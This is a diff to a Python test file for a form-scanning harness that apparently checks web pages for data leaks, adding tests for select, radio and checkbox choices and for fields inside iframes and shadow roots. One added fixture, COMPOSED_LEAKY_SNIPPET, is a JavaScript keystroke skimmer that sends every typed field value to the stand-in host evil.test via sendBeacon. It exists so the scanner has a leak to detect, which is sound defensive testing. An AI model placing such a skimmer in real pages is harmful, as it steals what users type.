@@ -15,8 +15,9 @@ from harness.cli import ExitStatus, main
 from harness.run.scenario import CANARY_KINDS
 from harness.scan import fields
 from harness.scan.crawl import PageFound, _why_not_follow
-from harness.scan.fields import Field, Form, canary_kind
+from harness.scan.fields import Choice, Field, Form, canary_kind
 from harness.scan.plan import plan
+from harness.scan.scenario_yaml import scenario_document
 from harness.scan.summary import summary_lines
 from tests.apps.fixtures import shop_app  # noqa: F401 - the fixture, by name
 from tests.apps.shop_app import ShopApp
@@ -153,17 +154,23 @@ def test_logout_like_and_non_html_links_are_not_followed(url: str, text: str, fo
 
 
 def test_a_form_no_field_of_which_can_be_filled_is_reported_with_why() -> None:
-    country = Field("#country", "Country", "text", False, "plain: typed text", "a select: a choice, not typed text")
+    upload = Field("#cv", "CV", "text", False, "plain: typed text", "a file input: nothing to type")
     email = Field("#email", "E-mail", "email", False, "plain: typed text")
-    pages = [PageFound("https://shop.test/a.html", 0, (Form("#choose", "", (country,)),)),
-             PageFound("https://shop.test/b.html", 1, (Form("#sign", "", (email, country)),))]
+    country = Choice("#country", "Country", "select", "GB")
+    terms = Choice("#terms", "Terms", "check", unfillable="not visible")
+    pages = [PageFound("https://shop.test/a.html", 0, (Form("#apply", "", (upload,), choices=(country,)),)),
+             PageFound("https://shop.test/b.html", 1, (Form("#sign", "", (email, upload), choices=(country, terms)),))]
     targets, untested = plan(pages)
     assert [(t.form.key, t.strategy) for t in targets] == [("#sign", "abandon")]
     lines = summary_lines(pages, targets, untested, {targets[0].slug: "failed"})
-    assert "  form #choose: 1 field(s), 0 sensitive: not tested: no field can be filled (#country: a select: a " \
-           "choice, not typed text)" in lines
-    assert "  form #sign: 2 field(s), 0 sensitive: abandon failed" in lines
-    assert "    #country: cannot be filled: a select: a choice, not typed text" in lines
+    assert "  form #apply: 1 field(s), 0 sensitive: not tested: no field can be filled (#cv: a file input: nothing " \
+           "to type)" in lines
+    assert lines[-4:] == ["  form #sign: 2 field(s), 0 sensitive: abandon failed",
+                          "    #cv: cannot be filled: a file input: nothing to type",
+                          "    #country: choose 'GB'", "    #terms: cannot check: not visible"]
+    steps = scenario_document(targets[0])["steps"]
+    assert {"select": {"selector": "#country", "value": "GB"}} in steps  # type: ignore[operator]
+    assert {"check": "#terms"} not in steps  # type: ignore[operator]
 
 
 def test_a_form_listed_safe_is_submitted_without_the_flag_and_stand_alone_fields_never_are() -> None:
@@ -193,3 +200,50 @@ def test_scan_runs_where_a_sync_playwright_is_already_running(tmp_path: Path, pa
                              "--observation-window", "0")
     assert "asyncio loop" not in out + err and "Traceback" not in out + err, out + err
     assert "page 1:" in out and (tmp_path / "scan" / "results.json").is_file(), out + err
+
+
+# LEAKY_SNIPPET, reading the field an event came from inside a shadow root (its target is the shadow host).
+COMPOSED_LEAKY_SNIPPET = """
+addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.composedPath()[0].value), true);
+"""
+ORDER_PAGE = """<!doctype html><title>Order</title>
+<form id="order-form" action="/done.html" method="post"><!-- validated: the browser refuses an incomplete form -->
+  <label for="buyer">Your name</label><input id="buyer" name="buyer" required>
+  <select id="size" name="size" required><option value="" disabled selected>Choose a size</option>
+    <option value="s" disabled>S (sold out)</option><option value="m">M</option><option value="l">L</option></select>
+  <input type="radio" name="ship" value="std" required><input type="radio" name="ship" value="fast" required>
+  <label><input id="terms" name="terms" type="checkbox" required> I accept the terms</label>
+  <label><input id="news" name="news" type="checkbox"> Send me news</label>
+  <button>Buy</button>
+</form>
+<iframe id="side" src="/side.html"></iframe>
+<div id="card"></div>
+<script>document.getElementById("card").attachShadow({mode: "open"}).innerHTML = '<input id="nick" aria-label="Nickname">';</script>
+"""
+
+
+def test_scan_in_firefox_makes_each_choice_and_reaches_frame_and_shadow_fields(tmp_path: Path) -> None:
+    """A validated form submits only once an option, a radio and the terms are chosen; Firefox (where the snippet
+    reaches frames by harness/run/inject.py) finds the iframe's and the shadow root's fields and their leaks."""
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "order.html").write_text(ORDER_PAGE)
+    (site / "side.html").write_text('<!doctype html><input id="side-email" type="email" aria-label="E-mail">')
+    (site / "done.html").write_text("<!doctype html><p>Thank you</p>")
+    snippet = tmp_path / "leaky.js"
+    snippet.write_text(COMPOSED_LEAKY_SNIPPET)
+    report = tmp_path / "scan"
+    status, out, err = _main("scan", "https://shop.test/order.html", "--depth", "0", "--submit", "--browser", "firefox",
+                             "--snippet", str(snippet), "--site", str(site), "--observation-window", "1",
+                             "--report", str(report))
+    assert status == ExitStatus.CHECK_FAILED, out + err
+    submitted = yaml.safe_load((report / "scenarios" / "scan-order-order-form-submit.yaml").read_text())
+    choices = [step for step in submitted["steps"] if "select" in step or "check" in step]
+    assert choices == [{"select": {"selector": "#size", "value": "m"}},
+                       {"check": 'input[name="ship"][value="std"]'}, {"check": "#terms"}], submitted["steps"]
+    assert list(submitted["secrets"]) == ["buyer"]  # choices are not canaries
+    assert "    #size: choose 'm'" in out and "    #terms: check" in out and "#news" not in out, out
+    runs = {run["slug"]: run for run in json.loads((report / "results.json").read_text())["runs"]}
+    assert runs["scan-order-order-form-submit"]["status"] == "failed", runs["scan-order-order-form-submit"]["error"]
+    leaked = {f["field"] for run in runs.values() for f in run["findings"]}
+    assert leaked == {"#buyer", "#side >> internal:control=enter-frame >> #side-email", "#card >> #nick"}, leaked
